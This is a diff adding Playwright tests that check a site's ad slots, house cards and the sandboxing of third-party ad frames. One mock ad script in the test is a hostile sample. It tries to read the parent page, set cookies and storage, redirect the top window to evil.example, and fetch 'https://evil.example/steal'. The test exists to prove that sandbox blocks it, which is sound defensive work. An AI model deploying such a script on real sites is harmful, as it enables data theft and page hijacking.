@@ -1,0 +1,183 @@
+import { once } from "node:events";
+import { createServer, type Server } from "node:http";
+import { test as bare } from "@playwright/test";
+import { startCity, type TestCity } from "../support/city.ts";
+import { desktop, expect, hydrated, phone, test } from "./support.ts";
+
+const slots = (selector: string) => `.ad-row ${selector}`;
+
+test.describe("as shipped", () => {
+  test("the rows of the front page hold the places they should, each with a card of our own", async ({
+    page,
+  }) => {
+    await page.setViewportSize(desktop);
+    await page.goto("/");
+    const rows = await page
+      .locator(".ad-row")
+      .evaluateAll((all) =>
+        all.map((row) =>
+          [...row.children].map(
+            (slot) => slot.getAttribute("data-ad-slot") ?? slot.getAttribute("data-ad-type"),
+          ),
+        ),
+      );
+    expect(rows).toEqual([
+      ["6079445", "1452360", "google"],
+      ["6079446", "1452361", "buddhatv"],
+      ["6079448", "1452363", "dunamis"],
+    ]);
+    for (const slot of await page.locator(slots("> *")).all()) {
+      await expect(slot).toContainText("Advertisement");
+      await expect(slot).toHaveCSS("min-height", "250px");
+      await expect(slot.getByRole("link")).toBeVisible();
+    }
+    await expect(page.locator("iframe")).toHaveCount(0);
+  });
+
+  test("on a phone one place of each row is there, and the others load nothing", async ({ page }) => {
+    const pictures: string[] = [];
+    page.on("request", (request) => pictures.push(new URL(request.url()).pathname));
+    await page.setViewportSize(phone);
+    await page.goto("/");
+    for (const row of await page.locator(".ad-row").all()) {
+      await row.scrollIntoViewIfNeeded();
+      await expect(
+        row.locator("> *").locator("visible=true").filter({ hasText: "Advertisement" }),
+      ).toHaveCount(1);
+    }
+    await page.waitForLoadState("networkidle");
+    // Only house cards of hidden places use this picture.
+    expect(pictures).not.toContain("/art/newsletter.svg");
+    expect(pictures).toContain("/art/radio.svg");
+  });
+
+  test("/about has one row, /privacy none", async ({ page }) => {
+    await page.goto("/about");
+    await expect(page.locator(".ad-row")).toHaveCount(1);
+    await page.goto("/privacy");
+    await expect(page.locator(".ad-row")).toHaveCount(0);
+    await expect(page.getByText("come from other companies")).toHaveCount(0);
+  });
+
+  test("ads.txt says that nobody may sell our places, and there is no frame for them", async ({
+    request,
+  }) => {
+    expect(await (await request.get("/ads.txt")).text()).toContain(
+      "placeholder.example.com, placeholder, DIRECT",
+    );
+    expect((await request.get("/embed/ad/6079445")).status()).toBe(404);
+  });
+});
+
+bare.describe("with an ad network", () => {
+  bare.describe.configure({ mode: "serial" });
+  let network: Server;
+  let city: TestCity;
+  /** What the network answers for each place. */
+  const scripts: Record<string, string | number | "hang"> = {
+    "6079445": `document.getElementById("ad").innerHTML = '<a href="https://shop.example" target="_blank" style="display:block;height:240px;background:gold">Buy crabs</a>'`,
+    "1452360": 500,
+    "6079446": "hang",
+    "1452361": "",
+    // Tries everything a hostile script may try, and says what worked.
+    "6079448": `
+      const worked = [];
+      const attempt = (name, what) => { try { what(); worked.push(name); } catch {} };
+      attempt("page", () => parent.document.title);
+      attempt("storage", () => localStorage.setItem("x", "1"));
+      attempt("cookie", () => { document.cookie = "x=1"; });
+      attempt("top", () => { top.location.href = "https://evil.example/"; });
+      document.getElementById("ad").innerHTML = '<p style="height:100px">' + (worked.join() || "nothing worked") + '</p>';
+      fetch("https://evil.example/steal").catch(() => {});`,
+  };
+
+  bare.beforeAll(async () => {
+    network = createServer((request, response) => {
+      const slot = new URL(request.url ?? "", "http://x").searchParams.get("slot") ?? "";
+      const answer = scripts[slot] ?? 404;
+      if (answer === "hang") return;
+      if (typeof answer === "number") response.writeHead(answer).end();
+      else response.writeHead(200, { "content-type": "text/javascript" }).end(answer);
+    }).listen(0, "127.0.0.1");
+    await once(network, "listening");
+    const address = network.address();
+    const host = `http://127.0.0.1:${typeof address === "object" ? address?.port : ""}`;
+    const loader = `loader:\n  script: ${host}/show.js?slot={slot}\n  hosts: ["${host}"]\n`;
+    city = await startCity({ "ads.yaml": (source) => loader + source });
+  });
+  bare.afterAll(async () => {
+    await city.close();
+    network.closeAllConnections();
+    network.close();
+  });
+
+  bare(
+    "an ad that answers is shown, labelled, in a frame that can reach nothing of ours",
+    async ({ page }) => {
+      await page.setViewportSize(desktop);
+      await page.goto(city.server.url);
+      await hydrated(page);
+      const place = page.locator('[data-ad-slot="6079445"]');
+      await expect(page.locator("iframe")).toHaveCount(0);
+      await place.scrollIntoViewIfNeeded();
+      await expect(place.frameLocator("iframe").getByRole("link", { name: "Buy crabs" })).toBeVisible();
+      await expect(place.getByText("Advertisement", { exact: true })).toBeVisible();
+      await expect(place.locator(".house-card")).toHaveAttribute("inert");
+      const frame = await page.request.get(`${city.server.url}/embed/ad/6079445`);
+      const policy = frame.headers()["content-security-policy"];
+      expect(policy).toContain("sandbox allow-scripts allow-popups;");
+      expect(policy).toContain("frame-ancestors 'self'");
+      expect((await page.request.get(`${city.server.url}/embed/ad/999`)).status()).toBe(404);
+    },
+  );
+
+  bare("a place whose ad fails, hangs or stays empty keeps the house card", async ({ page }) => {
+    await page.setViewportSize(desktop);
+    await page.clock.install();
+    await page.goto(city.server.url);
+    await hydrated(page);
+    for (const id of ["1452360", "6079446", "1452361"]) {
+      const place = page.locator(`[data-ad-slot="${id}"]`);
+      await place.scrollIntoViewIfNeeded();
+      await expect(place.locator(".ad-frame-place")).not.toHaveAttribute("data-phase", "waiting");
+      await page.clock.runFor(5_100);
+      await expect(place.locator("iframe")).toHaveCount(0);
+      await expect(place.getByRole("link")).toBeVisible();
+      await expect(place.locator(".house-card")).not.toHaveAttribute("inert");
+    }
+  });
+
+  bare("a hostile script gets nowhere", async ({ page }) => {
+    const left: string[] = [];
+    page.on("request", (request) => left.push(request.url()));
+    await page.setViewportSize(desktop);
+    await page.goto(city.server.url);
+    await hydrated(page);
+    const place = page.locator('[data-ad-slot="6079448"]');
+    await place.scrollIntoViewIfNeeded();
+    await expect(place.frameLocator("iframe").getByText("nothing worked")).toBeVisible();
+    expect(page.url()).toBe(`${city.server.url}/`);
+    expect(left.filter((url) => url.includes("evil"))).toEqual([]);
+    // Another window that claims to be the ad is not believed.
+    const other = page.locator('[data-ad-slot="1452363"]');
+    await other.scrollIntoViewIfNeeded();
+    await page.evaluate(() => postMessage("harborline-ad:filled"));
+    await expect(other.locator(".house-card")).not.toHaveAttribute("inert");
+  });
+
+  bare("hidden places on a phone ask nobody", async ({ page }) => {
+    const asked: string[] = [];
+    page.on("request", (request) => asked.push(request.url()));
+    await page.setViewportSize(phone);
+    await page.goto(city.server.url);
+    await hydrated(page);
+    await page.locator('[data-ad-slot="6079445"]').scrollIntoViewIfNeeded();
+    await expect(page.locator('[data-ad-slot="6079445"] iframe')).toHaveCount(1);
+    expect(asked.filter((url) => url.includes("1452360"))).toEqual([]);
+  });
+
+  bare("the privacy page says so", async ({ page }) => {
+    await page.goto(`${city.server.url}/privacy`);
+    await expect(page.getByText("Advertisements on this site come from other companies.")).toBeVisible();
+  });
+});
